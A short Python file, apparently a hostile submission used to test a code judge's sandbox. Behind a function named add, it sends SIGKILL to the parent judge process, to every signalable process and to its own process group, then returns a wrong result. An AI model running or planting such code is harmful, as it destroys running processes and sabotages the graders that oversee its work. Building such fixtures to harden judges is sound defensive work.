"""Tries to kill the judge and every process it can signal."""
import os
import signal


def add(a, b):
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGKILL)
    except OSError:
        pass
    return a - b
